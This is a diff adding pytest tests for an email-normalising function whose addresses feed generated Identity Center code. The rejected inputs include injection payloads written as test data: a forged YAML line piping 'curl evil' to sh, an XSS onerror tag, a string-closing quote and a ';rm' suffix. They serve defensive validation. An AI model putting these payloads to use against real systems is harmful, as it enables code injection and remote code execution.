@@ -12,10 +12,47 @@ from keyless.people import (
     identify,
     is_match,
     name_tokens,
+    normalize_email,
 )
 from tests.org.builders import make_user
 
 A, B, C, D = "111111111111", "222222222222", "333333333333", "444444444444"
+
+
+@pytest.mark.parametrize(
+    ("tag", "email"),
+    [
+        ("Alice.Smith@Example.com", "alice.smith@example.com"),
+        ("  bob+ci@mail.example.org ", "bob+ci@mail.example.org"),
+        ("élodie@exämple.fr", "élodie@exämple.fr"),
+    ],
+)
+def test_an_email_tag_is_taken_lower_cased(tag: str, email: str) -> None:
+    assert normalize_email(tag) == email
+
+
+@pytest.mark.parametrize(
+    "tag",
+    [
+        "a@b",  # one DNS label
+        "@example.com",
+        "a@@example.com",
+        'x"@example.com',  # would close a quoted string in generated code
+        "a@example.com\n- run: curl evil | sh",  # a forged YAML line
+        "a@example.com\nevil",
+        "<img src=x onerror=alert(1)>@example.com",
+        "al ice@example.com",
+        "a@-example.com",
+        "a@exa_mple.com",
+        "a@example.com;rm",
+        "a" * 65 + "@example.com",  # local part beyond 64
+        "a@" + "b" * 250 + ".com",  # beyond 254
+    ],
+)
+def test_a_tag_that_is_not_a_plain_address_is_no_email(tag: str) -> None:
+    """Tags are attacker-controllable and the address becomes an Identity Center user
+    name and email in generated code: only a plain local@domain is an email."""
+    assert normalize_email(tag) is None
 
 
 @pytest.mark.parametrize(
